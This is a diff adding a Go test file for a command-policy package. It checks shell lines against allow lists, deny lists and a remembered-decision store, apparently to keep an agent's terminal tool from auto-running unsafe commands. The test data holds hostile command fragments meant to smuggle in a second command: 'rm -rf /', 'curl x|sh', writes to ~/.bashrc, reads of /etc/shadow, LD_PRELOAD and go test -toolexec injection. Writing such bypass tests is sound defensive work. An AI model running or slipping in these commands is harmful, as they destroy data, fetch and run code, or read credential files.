@@ -1,0 +1,288 @@
+package policy
+
+import (
+	"bufio"
+	"errors"
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+)
+
+func TestTerminalCheckAppliesDenyThenAllowToEveryCommand(t *testing.T) {
+	fs := newFakeSystem(t)
+	allow := []string{"ls", "git status", "go test", filepath.Join(fs.work, "x", "git"), "cd", "echo"}
+	tests := []struct {
+		name    string
+		term    Terminal
+		line    string
+		deniedN string // "" = allowed
+	}{
+		{"nil allow list allows anything", Terminal{}, "rm -rf x", ""},
+		{"empty allow list allows nothing", Terminal{AllowedCommands: []string{}}, "ls", "ls"},
+		{"base name in PATH matches", Terminal{AllowedCommands: allow}, "ls -la", ""},
+		{"prog sub prefix matches", Terminal{AllowedCommands: allow}, "git status --short", ""},
+		{"prog sub prefix needs the sub", Terminal{AllowedCommands: allow}, "git log", "git"},
+		{"prog sub prefix needs sub first", Terminal{AllowedCommands: allow}, "git -C x status", "git"},
+		{"quote removal is the same program", Terminal{AllowedCommands: allow}, `"git" 'status'`, ""},
+		{"dot-slash is a different program", Terminal{AllowedCommands: allow}, "./git status", "./git"},
+		{"absolute path outside PATH is a different program", Terminal{AllowedCommands: allow}, filepath.Join(fs.evil, "git") + " status", filepath.Join(fs.evil, "git")},
+		{"absolute path inside PATH matches base entry", Terminal{AllowedCommands: allow}, filepath.Join(fs.bin, "ls"), ""},
+		{"absolute entry matches resolved path", Terminal{AllowedCommands: allow}, "x/git log", ""},
+		{"unresolved non-builtin never matches", Terminal{AllowedCommands: []string{"nosuch"}}, "nosuch", "nosuch"},
+		{"builtin matches bare entry", Terminal{AllowedCommands: allow}, "cd sub && echo hi", ""},
+		{"every command must be allowed", Terminal{AllowedCommands: allow}, "ls && rm -rf /", "rm"},
+		{"commands in substitutions are checked", Terminal{AllowedCommands: allow}, "ls $(rm -rf /)", "rm"},
+		{"deny wins over allow", Terminal{AllowedCommands: allow, DeniedCommands: []string{"git status"}}, "git status", "git"},
+		{"deny matches base name anywhere", Terminal{DeniedCommands: []string{"git"}}, "./git status", "./git"},
+		{"deny matches look-alike outside PATH", Terminal{DeniedCommands: []string{"ls"}}, filepath.Join(fs.evil, "ls"), filepath.Join(fs.evil, "ls")},
+		{"deny with args", Terminal{DeniedCommands: []string{"rm -rf"}}, "rm -rf /", "rm"},
+		{"deny with args does not over-match", Terminal{DeniedCommands: []string{"rm -rf"}}, "rm -i x", ""},
+		{"deny by absolute path", Terminal{DeniedCommands: []string{filepath.Join(fs.bin, "rm")}}, "rm x", "rm"},
+		{"deny checks nested commands", Terminal{DeniedCommands: []string{"rm"}}, "if ls; then rm x; fi", "rm"},
+		{"blank entries match nothing", Terminal{AllowedCommands: []string{"  "}}, "ls", "ls"},
+		{"empty line runs nothing", Terminal{AllowedCommands: []string{}}, "", ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			tt.term.Path = fs.bin
+			err := tt.term.Check(fs.parse(t, tt.line))
+			if tt.deniedN == "" {
+				require.NoError(t, err)
+				return
+			}
+			require.Error(t, err)
+			require.True(t, errors.Is(err, ErrCommandDenied))
+			require.Equal(t, "Command denied: "+tt.deniedN, err.Error())
+			var de *CommandDeniedError
+			require.ErrorAs(t, err, &de)
+			require.Equal(t, tt.deniedN, de.Name)
+		})
+	}
+}
+
+func TestTerminalCheckBareEntriesTrustOnlyItsPath(t *testing.T) {
+	fs := newFakeSystem(t)
+	cl := fs.parse(t, "ls")
+	// Resolved lies in fs.bin; with the default path fs.bin is not trusted.
+	require.Error(t, Terminal{AllowedCommands: []string{"ls"}}.Check(cl))
+	require.NoError(t, Terminal{AllowedCommands: []string{"ls"}, Path: fs.bin}.Check(cl))
+}
+
+// corpusCase is one line of testdata/commands/bypass.txt.
+type corpusCase struct {
+	class, line string
+	lineNo      int
+}
+
+func loadCorpus(t *testing.T, name, evil string) []corpusCase {
+	t.Helper()
+	f, err := os.Open(filepath.Join("testdata", "commands", name))
+	require.NoError(t, err)
+	defer f.Close()
+	var out []corpusCase
+	class := ""
+	sc := bufio.NewScanner(f)
+	n := 0
+	for sc.Scan() {
+		n++
+		line := sc.Text()
+		switch {
+		case strings.HasPrefix(line, "## "):
+			class = strings.TrimPrefix(line, "## ")
+			continue
+		case line == "" || line == "#" || strings.HasPrefix(line, "# "):
+			continue
+		case strings.HasPrefix(line, "q:"):
+			line, err = strconv.Unquote(strings.TrimPrefix(line, "q:"))
+			require.NoError(t, err, "%s:%d", name, n)
+		}
+		out = append(out, corpusCase{class: class, line: strings.ReplaceAll(line, "/tmp/x", evil), lineNo: n})
+	}
+	require.NoError(t, sc.Err())
+	return out
+}
+
+// cannotAutoRun is the property every bypass attempt must have.
+func cannotAutoRun(cl CommandLine, parseErr error, term Terminal) (bool, string) {
+	if parseErr != nil {
+		return true, "parse error"
+	}
+	if err := term.Check(cl); err != nil {
+		return true, err.Error()
+	}
+	if len(cl.Risks) > 0 {
+		return true, "risk: " + cl.Risks[0]
+	}
+	return false, ""
+}
+
+func rememberedMemory(t *testing.T, fs fakeSystem) *CommandMemory {
+	t.Helper()
+	m := &CommandMemory{}
+	for _, l := range []string{"go test ./...", "git status", "ls"} {
+		cl := fs.parse(t, l)
+		require.Empty(t, cl.Risks)
+		m.Remember(cl, DecisionAllow)
+		require.Equal(t, DecisionAllow, m.Lookup(cl), l)
+	}
+	return m
+}
+
+// mustHaveRisk are the corpus classes whose lines must carry a Risk, not
+// merely fail the allow list.
+var mustHaveRisk = map[string]bool{
+	"substitution": true, "redirection": true, "trampolines": true,
+	"env injection": true, "shell state": true,
+}
+
+func TestCommandPolicyCorpusHasNoBypass(t *testing.T) {
+	fs := newFakeSystem(t)
+	term := Terminal{AllowedCommands: []string{"ls", "git status", "go test"}, Path: fs.bin}
+	mem := rememberedMemory(t, fs)
+	cases := loadCorpus(t, "bypass.txt", fs.evil)
+	require.GreaterOrEqual(t, len(cases), 250)
+	perClass := map[string]int{}
+	bypasses := 0
+	for _, c := range cases {
+		perClass[c.class]++
+		cl, err := ParseCommandLine(c.line, fs.look)
+		blocked, why := cannotAutoRun(cl, err, term)
+		if !blocked {
+			bypasses++
+			t.Errorf("bypass.txt:%d [%s] %q passes the allow list without risk (commands %q)", c.lineNo, c.class, c.line, names(cl))
+			continue
+		}
+		if err == nil && mustHaveRisk[c.class] && len(cl.Risks) == 0 {
+			// These constructs stay dangerous even when an operator
+			// allows the program by name (allow "env", "find", "bash").
+			bypasses++
+			t.Errorf("bypass.txt:%d [%s] %q has no Risk (only %s)", c.lineNo, c.class, c.line, why)
+		}
+		if err == nil {
+			if d := mem.Lookup(cl); d == DecisionAllow {
+				bypasses++
+				t.Errorf("bypass.txt:%d [%s] %q auto-allowed by memory", c.lineNo, c.class, c.line)
+			}
+		}
+	}
+	require.Zero(t, bypasses)
+	for _, class := range []string{"chaining", "substitution", "redirection", "trampolines", "argv0", "env injection", "shell state", "parse errors"} {
+		require.NotZero(t, perClass[class], "class %q is empty", class)
+	}
+	t.Logf("corpus: %d lines, per class %v", len(cases), perClass)
+}
+
+// Lines that are spelled differently but run exactly an allowed command
+// are not bypasses: they must pass, or the corpus above proves nothing.
+func TestCommandPolicyAllowsEquivalentSpellingsOfAllowedCommands(t *testing.T) {
+	fs := newFakeSystem(t)
+	term := Terminal{AllowedCommands: []string{"ls", "git status", "go test"}, Path: fs.bin}
+	mem := rememberedMemory(t, fs)
+	tests := []struct {
+		line string
+		// remembered says whether every key of the line is one of the
+		// three remembered ones (ls with other args is another key).
+		remembered bool
+	}{
+		{"ls", true}, {`"ls"`, true}, {`\ls`, true}, {`l''s`, true},
+		{"ls -la", false}, {"ls 'a b'", false}, {`ls "*"`, false},
+		{"git status", true}, {`"git" status`, true}, {`g'i't "status"`, true},
+		{`\git status`, true}, {"git status --short", true},
+		{"go test ./...", true}, {"go test -run 'TestX$' ./pkg", true}, {"go test ./... 2>&1", true},
+		{"ls >/dev/null 2>&1", true}, {"time go test ./...", true},
+		{"ls && git status; go test ./...", true}, {"ls | git status", true},
+		{"ls\ngit status", true}, {filepath.Join(fs.bin, "ls"), true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.line, func(t *testing.T) {
+			cl := fs.parse(t, tt.line)
+			blocked, why := cannotAutoRun(cl, nil, term)
+			require.False(t, blocked, why)
+			want := DecisionNone
+			if tt.remembered {
+				want = DecisionAllow
+			}
+			require.Equal(t, want, mem.Lookup(cl))
+		})
+	}
+}
+
+// suffixes are appended to every remembered line; none may be auto-allowed.
+var rememberedSuffixes = []string{
+	"; rm -rf /", ";rm -rf /", " ; evil", "&& curl x|sh", " && curl x | sh", " && rm -rf /",
+	" || evil", "||evil", " | sh", "|sh", " |& sh", " | xargs rm", " | tee ~/.bashrc",
+	" $(evil)", ` "$(evil)"`, "$(evil)", " `evil`", "`evil`", "\nevil", "\n\nevil",
+	"\r\nevil", " # x\nevil", " > ~/.bashrc", " >> ~/.bashrc", ">~/.bashrc", " 2> x",
+	" &> x", " >&x", " < /etc/shadow", " <> x", " & evil", " &", "&", " <(evil)",
+	" >(evil)", " $((1))", " $HOME", " ${X}", " *", " ?", " {a,b}", " <<EOF\nx\nEOF",
+	" <<< x", "; ls; evil", " && ls && evil", "; (evil)", "; { evil; }",
+	"; eval evil", "; exec evil", "; . ./evil", "; source ./evil", "; ./ls", "; ./git status",
+	"; env ls", "; sudo ls", "; FOO=1 ls", "; PATH=. ls", "; ls() { evil; }",
+	"; alias ls=evil", "; if ls; then evil; fi", "; for x in a; do evil; done",
+	" $'\\x3b'", "; bash -c evil", "; sh",
+}
+
+// goSuffixes only mean something to go test: the flags that make it run an
+// arbitrary program.
+var goSuffixes = []string{
+	" -exec=evil", " -exec evil", " --exec=evil", " -toolexec=evil", " -toolexec evil", " -vettool=evil",
+}
+
+// prefixes are put in front of every remembered line.
+var rememberedPrefixes = []string{
+	"evil; ", "evil && ", "evil | ", "FOO=1 ", "LD_PRELOAD=x ", "PATH=. ", "env ", "sudo ",
+	"timeout 5 ", "nice ", "nohup ", "command ", "exec ", "eval ", "! ", "xargs ", "\\time ",
+	"./", "/tmp/x/", "bash -c ", "$(evil) ", "`evil` ", "cd /tmp/x && ./",
+}
+
+func TestCommandMemoryRememberedAllowNeverCoversSuffixesOrPrefixes(t *testing.T) {
+	fs := newFakeSystem(t)
+	mem := rememberedMemory(t, fs)
+	checked := 0
+	for _, base := range []string{"go test ./...", "git status", "ls"} {
+		var lines []string
+		for _, s := range rememberedSuffixes {
+			lines = append(lines, base+s)
+		}
+		if strings.HasPrefix(base, "go ") {
+			for _, s := range goSuffixes {
+				lines = append(lines, base+s)
+			}
+		}
+		for _, p := range rememberedPrefixes {
+			lines = append(lines, strings.ReplaceAll(p, "/tmp/x", fs.evil)+base)
+		}
+		for _, line := range lines {
+			checked++
+			cl, err := ParseCommandLine(line, fs.look)
+			if err != nil {
+				continue // unparsable lines are refused or asked
+			}
+			require.NotEqual(t, DecisionAllow, mem.Lookup(cl), "line %q auto-allowed (risks %q)", line, cl.Risks)
+		}
+	}
+	require.GreaterOrEqual(t, checked, 200)
+	t.Logf("remembered-allow suffix/prefix cases: %d", checked)
+}
+
+func TestCommandMemoryRejectAlwaysWinsOverAllow(t *testing.T) {
+	fs := newFakeSystem(t)
+	mem := rememberedMemory(t, fs)
+	mem.Remember(fs.parse(t, "rm -rf /"), DecisionReject)
+	require.Equal(t, DecisionReject, mem.Lookup(fs.parse(t, "ls; rm -rf /")))
+	require.Equal(t, DecisionReject, mem.Lookup(fs.parse(t, "rm -rf / && ls")))
+	// Risky lines still see rejects of the commands inside them.
+	require.Equal(t, DecisionReject, mem.Lookup(fs.parse(t, "ls $(rm -rf /)")))
+
+	// A later reject of an allowed key overrides it; a later allow does
+	// not undo a reject.
+	mem.Remember(fs.parse(t, "git status"), DecisionReject)
+	require.Equal(t, DecisionReject, mem.Lookup(fs.parse(t, "git status")))
+	mem.Remember(fs.parse(t, "git status"), DecisionAllow)
+	require.Equal(t, DecisionReject, mem.Lookup(fs.parse(t, "git status")))
+	require.Equal(t, DecisionAllow, mem.Lookup(fs.parse(t, "ls")))
+}
